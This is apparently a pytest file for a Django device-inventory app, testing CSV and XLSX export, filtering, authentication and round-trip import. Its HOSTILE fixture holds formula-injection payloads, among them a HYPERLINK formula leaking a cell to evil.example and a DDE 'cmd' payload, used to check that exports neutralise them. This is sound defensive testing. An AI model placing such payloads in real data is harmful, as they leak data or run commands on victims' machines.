"""Export of devices: CSV streamed, XLSX opened with openpyxl, formulas neutralised, round trip."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command
from django.http import StreamingHttpResponse

from devices.exporting import neutralise
from devices.importing import COLUMNS, import_devices
from devices.models import AuditRecord, Device, DeviceModel
from tests.factories import DeviceFactory, DeviceModelFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "notes": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "assigned_officer": "+1-555-0100",
    "assigned_unit": "@SUM(1+1)",
    "firmware_version": "-2+3",
    "asset_tag": "=cmd|' /C calc'!A0",
}


@pytest.fixture
def phone_model(db) -> DeviceModel:
    return DeviceModelFactory(
        manufacturer="Keystone Mobile",
        name="KM-5 Responder",
        kind=DeviceModel.Kind.SMARTPHONE,
        is_cellular=True,
    )


@pytest.fixture
def fleet(agency_a, agency_b, phone_model):
    own = [
        DeviceFactory(
            agency=agency_a,
            model=phone_model,
            manufacturer="Keystone Mobile",
            serial="KSP-1",
            status="deployed",
            network="firstnet",
            imei="352099000000014",
            is_mdm_enrolled=True,
        ),
        DeviceFactory(
            agency=agency_a,
            model=phone_model,
            manufacturer="Keystone Mobile",
            serial="KSP-2",
            status="in_stock",
            **HOSTILE,
        ),
    ]
    other = DeviceFactory(
        agency=agency_b,
        model=phone_model,
        manufacturer="Keystone Mobile",
        serial="LEX-1",
        status="in_repair",
    )
    return own, other


def read_csv(response) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # Excel needs the BOM to read UTF-8
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_neutralise_prefixes_every_formula_trigger_and_nothing_else():
    for value in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
        assert neutralise(value) == "'" + value
    for value in ("plain", "1-2", "", "a=b"):
        assert neutralise(value) == value


def test_csv_export_streams_the_import_columns_of_visible_devices(fleet, admin_a):
    response = admin_a.client.get("/api/devices/export?format=csv")

    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = read_csv(response)
    assert [r["serial"] for r in rows] == ["KSP-1", "KSP-2"]  # never another agency's
    assert tuple(rows[0]) == COLUMNS
    first = rows[0]
    assert (first["manufacturer"], first["model"], first["imei"]) == (
        "Keystone Mobile",
        "KM-5 Responder",
        "352099000000014",
    )
    assert (first["status"], first["network"], first["mdm_enrolled"]) == (
        "deployed",
        "firstnet",
        "yes",
    )


def test_csv_export_neutralises_formula_injection(fleet, admin_a):
    rows = read_csv(admin_a.client.get("/api/devices/export"))
    hostile = next(r for r in rows if r["serial"] == "KSP-2")
    for column, value in HOSTILE.items():
        assert hostile[column] == "'" + value, column


def test_xlsx_export_opens_with_openpyxl_and_holds_text_never_formulas(fleet, admin_a):
    response = admin_a.client.get("/api/devices/export?format=xlsx")

    assert response.status_code == 200
    assert (
        response["Content-Type"]
        == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook["devices"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == COLUMNS
    assert [r[0] for r in rows[1:]] == ["KSP-1", "KSP-2"]
    hostile = dict(zip(COLUMNS, rows[2], strict=True))
    for column, value in HOSTILE.items():
        assert hostile[column] == "'" + value, column
    assert all(
        cell.data_type == "s" for row in sheet.iter_rows(min_row=2) for cell in row if cell.value
    )


def test_export_is_filtered_like_the_list(fleet, state_staff):
    rows = read_csv(state_staff.client.get("/api/devices/export?status=deployed"))
    assert [r["serial"] for r in rows] == ["KSP-1"]
    rows = read_csv(state_staff.client.get("/api/devices/export?agency=lex-pd"))
    assert [r["serial"] for r in rows] == ["LEX-1"]
    rows = read_csv(state_staff.client.get("/api/devices/export?q=ksp-"))
    assert [r["serial"] for r in rows] == ["KSP-1", "KSP-2"]


def test_export_needs_a_token_and_a_known_format(fleet, viewer_a, client):
    assert client.get("/api/devices/export").status_code == 401
    bad = viewer_a.client.get("/api/devices/export?format=pdf")
    assert bad.status_code == 422
    assert bad.json()["errors"][0]["field"] == "format"
    # A viewer reads (and so exports) the own agency's devices.
    assert [r["serial"] for r in read_csv(viewer_a.client.get("/api/devices/export"))] == [
        "KSP-1",
        "KSP-2",
    ]


def test_exported_file_imports_back_unchanged(fleet, agency_a, admin_a):
    csv_bytes = b"".join(admin_a.client.get("/api/devices/export?agency=ksp").streaming_content)
    xlsx_bytes = b"".join(
        admin_a.client.get("/api/devices/export?agency=ksp&format=xlsx").streaming_content
    )
    snapshot = list(Device.objects.order_by("pk").values())

    for data, name in ((csv_bytes, "export.csv"), (xlsx_bytes, "export.xlsx")):
        plan = import_devices(
            agency=agency_a, data=data, filename=name, actor=admin_a.user, dry_run=False
        )
        assert plan.errors == []
        assert (plan.created, plan.updated, plan.unchanged) == (0, 0, 2), name

    assert list(Device.objects.order_by("pk").values()) == snapshot
    assert Device.objects.get(serial="KSP-2").notes == HOSTILE["notes"]


def test_export_is_not_audited(fleet, admin_a):
    before = AuditRecord.objects.count()
    admin_a.client.get("/api/devices/export")
    assert AuditRecord.objects.count() == before


def test_export_command_writes_csv_and_xlsx(fleet, tmp_path, capsys):
    call_command("export_devices", "--agency", "ksp")
    out = capsys.readouterr().out
    assert out.splitlines()[0].lstrip("\ufeff") == ",".join(COLUMNS)
    assert "LEX-1" not in out

    target = tmp_path / "all.xlsx"
    call_command("export_devices", "--format", "xlsx", "--output", str(target))
    sheet = openpyxl.load_workbook(target)["devices"]
    assert sheet.max_row == 4  # header + three devices
